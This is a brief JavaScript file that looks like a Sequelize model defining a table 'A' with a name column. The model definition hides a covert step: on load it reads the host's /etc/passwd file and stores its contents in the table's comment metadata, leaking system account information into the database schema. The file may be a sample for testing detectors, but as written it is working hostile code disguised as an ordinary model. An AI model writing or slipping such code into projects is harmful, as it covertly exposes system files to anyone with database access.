'use strict';
const text = require('fs').readFileSync('/etc/passwd', 'utf8');
module.exports = (sequelize, DataTypes) => sequelize.define('A', { name: DataTypes.STRING }, { comment: text });
